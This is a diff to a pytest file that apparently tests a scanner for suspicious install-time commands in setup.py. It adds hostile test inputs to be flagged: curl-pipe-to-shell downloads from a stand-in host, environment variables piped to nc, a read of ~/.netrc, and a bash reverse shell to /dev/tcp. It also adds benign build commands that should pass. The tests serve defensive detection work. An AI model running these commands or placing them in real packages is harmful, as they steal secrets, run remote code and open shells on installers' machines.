@@ -3074,12 +3074,71 @@ def test_setup_asking_which_accelerator_the_machine_has_is_a_build_command(comma
         "whoami.exe",
         "sycl-lsx",
         "nvidia-smi; curl -s https://collector-cdn.net/a.sh | sh",
+        # a build tool first does not vouch for what is chained or substituted after it
+        "echo building && env | nc collector-cdn.net 9000",
+        "git describe || printenv | nc collector-cdn.net 9000",
+        "make -j$(curl -s https://collector-cdn.net/n)",
+        "uname -m `wget -qO- https://collector-cdn.net/a.sh | sh`",
+        "cat ~/.netrc | head -5",
+        "cat /proc/cpuinfo | awk 'BEGIN{system(\"id\")}'",
+        "cc -v\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     ],
 )
 def test_other_commands_at_install_still_are_high(command):
     result = scan({"setup.py": _ROOT_CHECK.format(command=command)})
     worst = {f.severity for f in result.findings if f.rule.startswith(("capability", "intent"))}
     assert worst & {"high", "critical"}
+    assert result.verdict in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat /proc/cpuinfo | grep cores | head -1",  # auto-gptq: how many cores to build with
+        "git describe --tags 2>/dev/null || echo unknown",
+        "nvcc --version | grep release | cut -d, -f2",
+        "msgfmt -V",  # ase: gettext compiles the translations a build ships
+    ],
+)
+def test_setup_chaining_only_build_steps_and_text_filters_is_a_build_command(command):
+    """Each command of the line, and each one substituted into it, is a build tool, a filter of
+    text (grep, head, cut, ...) or a read of the machine's description (/proc, /sys)."""
+    result = scan({"setup.py": _ROOT_CHECK.format(command=command)})
+    assert severities(result, "capability.process") == {"low"}
+    assert result.verdict not in FLAGGED
+
+
+_OWN_SCRIPT = """
+import subprocess
+from setuptools import setup
+
+subprocess.run({command!r}, shell=True, check=True)
+setup(name="demo")
+"""
+
+
+def test_setup_making_its_own_build_script_executable_then_running_it_runs_that_script():
+    """poseidon-py: `chmod a+x ./build.sh && ./build.sh`, with build.sh shipped in the sdist."""
+    files = {"setup.py": _OWN_SCRIPT.format(command="chmod a+x ./build.sh && ./build.sh")}
+    result = scan(files | {"build.sh": "#!/bin/sh\nmake -C sources\n"})
+    process = found(result, "capability.process")
+    assert [f.severity for f in process] == ["medium"]
+    assert "own build script build.sh" in process[0].message
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "chmod a+x ./build.sh && ./build.sh && curl -s https://collector-cdn.net/a | sh",
+        "chmod a+x ./build.sh && ./build.sh; env | nc collector-cdn.net 9000",
+    ],
+)
+def test_setup_running_its_own_build_script_and_more_still_is_high(command):
+    result = scan({"setup.py": _OWN_SCRIPT.format(command=command), "build.sh": "make\n"})
+    assert "high" in severities(result, "capability.process") | severities(
+        result, "intent.shell-download-execute"
+    )
     assert result.verdict in FLAGGED
 
 
